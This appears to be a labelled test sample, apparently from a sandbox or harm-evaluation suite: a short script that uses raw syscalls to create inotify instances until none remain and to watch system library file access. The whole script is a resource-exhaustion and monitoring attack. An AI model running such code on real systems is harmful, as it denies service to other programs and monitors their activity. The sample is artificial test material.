"""Watches which files the machine's other programs open, and uses up the user's number of watches.

harm: machine
must: full
"""

fds = []
for number, arguments in ((253, ()), (294, (0,))):
    while (fd := call(number, *arguments)) is not None:
        fds.append(fd)
seen = [call(254, fd, b"/lib/x86_64-linux-gnu", 0xFFF) for fd in fds]
if fds:
    tell(f"{len(fds)} instances, watches {seen[:5]}")
